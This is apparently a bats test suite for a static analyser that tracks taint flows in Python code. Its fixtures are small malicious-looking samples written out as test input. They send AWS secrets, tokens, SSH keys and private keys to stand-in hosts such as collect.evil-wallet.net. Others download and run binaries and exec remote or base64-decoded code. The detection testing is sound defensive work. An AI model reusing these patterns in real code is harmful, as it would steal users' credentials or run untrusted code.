#!/usr/bin/env bats
# 42-flows.bats: taint flows (rules.yaml `taint:`) — exfiltration, droppers, remote and decoded code.

load helpers/common
load helpers/parse
load helpers/analyze
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; }

flows() {
	scan "$1" | jq -r 'select(.type == "hit" and (.tags | index("flow"))) | "\(.line) \(.detection) \(.context) \(.score) \(.flow.source) | \(.flow.path) | \(.flow.sink)"'
}

@test "Exfiltration: an environment variable through variables and a helper into requests.post" {
	py m.py <<'PY'
import os, requests
def collect():
    return os.environ.get("AWS_SECRET_ACCESS_KEY")
def send(d):
    requests.post("https://example.com/c", data=d)
info = {"k": collect(), "u": os.getlogin()}
body = str(info)
send(body)
PY
	run flows m.py
	assert_output "8 Exfiltration import 120 os.environ.get() (line 3) | collect → info → body → send() | send"
}

@test "Exfiltration: not when the sensitive data only goes to a sanitiser or a local print" {
	py m.py <<'PY'
import os, requests
home = os.environ["HOME"]
n = len(home)
print(home)
requests.get("https://example.com/status", params={"n": n})
PY
	run flows m.py
	assert_output ""
}

@test "Exfiltration: a credential file read (open of ~/.ssh/id_rsa) sent over a socket" {
	py m.py <<'PY'
import socket
def steal():
    key = open("/root/.ssh/id_rsa").read()
    s = socket.socket()
    s.connect(("192.0.2.1", 4444))
    socket.getaddrinfo(key, 80)
PY
	run flows m.py
	assert_output --partial "6 Exfiltration function 30 builtins.open() (line 3) | key | socket.getaddrinfo"
}

@test "Dropper: a download written to a file that is then run; not when the file run is another" {
	py setup.py <<'PY'
import requests, subprocess
r = requests.get("https://example.com/a.bin")
with open("a.bin", "wb") as f:
    f.write(r.content)
subprocess.call(["a.bin"])
subprocess.call(["ls"])
PY
	run flows setup.py
	assert_output "5 Dropper install 150 requests.get() (line 2) | r → file a.bin | subprocess.call"
}

@test "Dropper: urlretrieve then chmod of the same path" {
	py m.py <<'PY'
import urllib.request, os
def fetch():
    urllib.request.urlretrieve("https://example.com/x", "/tmp/x")
    os.chmod("/tmp/x", 0o755)
    os.chmod("/tmp/other", 0o755)
PY
	run flows m.py
	assert_output "4 Dropper function 40 urllib.request.urlretrieve() (line 3) |  | os.chmod"
}

@test "Dropper: urlretrieve whose URL argument is itself tainted still names the download as the source" {
	py m.py <<'PY'
import urllib.request, os
def fetch(base):
    target = os.path.expanduser("~/.cache/tool")
    urllib.request.urlretrieve(os.path.join(os.environ.get("MIRROR"), "tool"), target)
    os.chmod(target, 0o755)
PY
	run flows m.py
	assert_output "5 Dropper function 40 urllib.request.urlretrieve() (line 4) | target | os.chmod"
}

@test "RemoteCodeExecution: a response body into exec; a constant string is not" {
	py m.py <<'PY'
import requests
code = requests.get("https://example.com/p.py").text
exec(code)
exec("x = 1")
PY
	run flows m.py
	assert_output "3 RemoteCodeExecution import 120 requests.get() (line 2) | code | builtins.exec"
}

@test "ObfuscatedCodeExecution: decoded data into exec; decoded data printed is not" {
	py m.py <<'PY'
import base64, zlib
blob = zlib.decompress(base64.b64decode("eJwrKMrMK1EoyUgtSgUAGMoEPQ=="))
exec(blob)
print(base64.b64decode("aGk="))
PY
	run flows m.py
	assert_output --partial "3 ObfuscatedCodeExecution import 100"
	assert_equal "${#lines[@]}" 1
}

@test "flows inside a function reached from the top level weigh as top level and say so" {
	py m.py <<'PY'
import os, requests
def main():
    requests.post("https://example.com", data=os.environ.get("TOKEN"))
main()
PY
	run bash -c "$(declare -f scan file_record); scan m.py | jq -r 'select(.type == \"hit\" and .detection == \"Exfiltration\") | [.context, .score, (.message | contains(\"reached through main()\"))] | @tsv'"
	assert_output "$(printf 'import\t120\ttrue')"
}

@test "a flow rule naming an undeclared label is a clear error" {
	printf 'version: 1\ntaint:\n  sources: [{label: a, names: [x.y]}]\n  sinks: [{label: b, names: [z]}]\n  flows:\n    - {detection: F, from: c, to: b, category: x, severity: low, score: 1, message: m}\n' >bad.yaml
	run --separate-stderr aura-analyze --rules bad.yaml </dev/null
	assert_failure 2
	[[ "$stderr" == *"no taint source labelled 'c'"* ]] || fail "stderr: $stderr"
}

@test "Exfiltration: key material passed in (a parameter named private_key) sent to a hard-coded host; not a password to the caller's server" {
	py m.py <<'PY'
import requests
API = "https://collect.evil-wallet.net/k"
def perm(private_key):
    payload = [{"k": private_key}]
    requests.post(API, payload)
def login(server, password):
    requests.post(server, data={"p": password})
def price(symbol):
    requests.get("https://prices.evil-wallet.net/" + symbol)
PY
	run flows m.py
	assert_output "5 Exfiltration function 100 parameter private_key of perm() | private_key → payload | requests.post"
	exfil() { scan m.py | jq -r 'select(.type == "hit" and .detection == "Exfiltration") | .message, .flow.host, (.tags | index("fixed-host") != null)'; }
	run -0 exfil
	assert_line --index 0 --partial "into requests.post() to the hard-coded host collect.evil-wallet.net inside a function"
	assert_line --index 1 "collect.evil-wallet.net"
	assert_line --index 2 "true"
}

@test "Exfiltration: a secret sent inside an uncalled function weighs 30 when the caller chooses the host" {
	py m.py <<'PY'
import os, urllib.request
def upload(url):
    urllib.request.urlopen(url, data=os.environ["TOKEN"].encode())
def upload_fixed():
    urllib.request.urlopen(f"https://drop.evil.net/{os.getlogin()}")
PY
	run flows m.py
	assert_line --index 0 "3 Exfiltration function 30 os.environ (line 3) |  | urllib.request.urlopen"
	assert_line --index 1 "5 Exfiltration function 100 os.getlogin() (line 5) |  | urllib.request.urlopen"
}

@test "ObfuscatedShellCommand: base64-decoded data run as a command; a literal command is not" {
	py m.py <<'PY'
import os, base64, subprocess
cmd = "aWQ="
os.system(base64.b64decode(cmd))
subprocess.run(["ls", "-l"])
os.system("id")
PY
	obf() { scan m.py | jq -r 'select(.type == "hit" and .detection == "ObfuscatedShellCommand") | "\(.line) \(.context) \(.score) \(.flow.source) | \(.flow.sink)"'; }
	run -0 obf
	assert_output "3 import 100 base64.b64decode() (line 3) | os.system"
}

@test "Dropper: a downloaded file whose constant path a later command string names; not another command" {
	py m.py <<'PY'
import os, requests
def fetch():
    r = requests.get("https://dl.example.org/a")
    with open(f'C://Temp//server.exe', 'wb') as f:
        f.write(r.content)
    os.system("start cmd.exe /c start C://Temp//server.exe")
    os.system("start cmd.exe /c start C://Temp//other.exe")
PY
	run flows m.py
	assert_output "6 Dropper function 40 requests.get() (line 3) | r → file C://Temp//server.exe | os.system"
}

@test "Dropper: a download from a hard-coded host run in an uncalled function weighs like fixed_host; a caller's URL does not" {
	py m.py <<'PY'
import os, requests
def fetch():
    url = "https://files.dropzone.net/a/server.exe"
    r = requests.get(url)
    with open("C://Temp//server.exe", "wb") as f:
        f.write(r.content)
    os.system("start C://Temp//server.exe")
def fetch_from(url):
    r = requests.get(url)
    with open("C://Temp//client.exe", "wb") as f:
        f.write(r.content)
    os.system("start C://Temp//client.exe")
PY
	drop() { scan m.py | jq -r 'select(.type == "hit" and .detection == "Dropper") | "\(.line) \(.score) \(.flow.host) \(.tags | index("fixed-host") != null) \(.message | test("from the hard-coded host files.dropzone.net"))"'; }
	run -0 drop
	assert_output "7 100 files.dropzone.net true true
12 40 null false false"
}

@test "no silent cap: a flow through a 100-byte variable name, after 520 other variables, through a 40-deep attribute chain" {
	long=$(printf 'v%.0s' {1..100})
	{
		echo 'import os, requests'
		for i in $(seq 1 520); do echo "d$i = $i"; done
		echo "$long = os.environ['AWS_SECRET_ACCESS_KEY']"
		echo "requests.post('https://example.com/c', data=$long)"
		echo "class O: pass"
		echo "o = O()"
		printf 'o'; for i in $(seq 1 40); do printf '.a'; done; echo " = os.environ['TOKEN']"
		printf "requests.post('https://example.com/d', data=o"; for i in $(seq 1 40); do printf '.a'; done; echo ")"
	} >m.py
	run bash -c "$(declare -f flows scan parse_stage file_record); flows m.py | cut -d' ' -f1-5"
	assert_output "$(printf '523 Exfiltration import 120 os.environ\n527 Exfiltration import 120 os.environ')"
}

@test "no silent cap: a function past the 1024th still gets a summary (its flow is found)" {
	{
		echo 'import os, requests'
		for i in $(seq 1 1100); do echo "def f$i(): return $i"; done
		echo 'def grab(): return os.environ["AWS_SECRET_ACCESS_KEY"]'
		echo 'requests.post("https://example.com/c", data=grab())'
	} >m.py
	run bash -c "$(declare -f flows scan parse_stage file_record); flows m.py | cut -d' ' -f1-4"
	assert_output "1103 Exfiltration import 120"
}

@test "no silent cap: a flow through 900 nested calls (as deep as aura-parse keeps) is followed" {
	python3 -c "
print('import os, requests')
print('requests.post(\"https://example.com/c\", data=' + 'str(' * 900 + 'os.environ[\"K\"]' + ')' * 900 + ')')" >m.py
	# jq cannot read trees this deep: the hit records are picked out by text
	run bash -c "$(declare -f scan parse_stage file_record); scan m.py | grep '^{\"type\":\"hit\"' | grep -o '\"detection\":\"Exfiltration\"'"
	assert_output '"detection":"Exfiltration"'
}
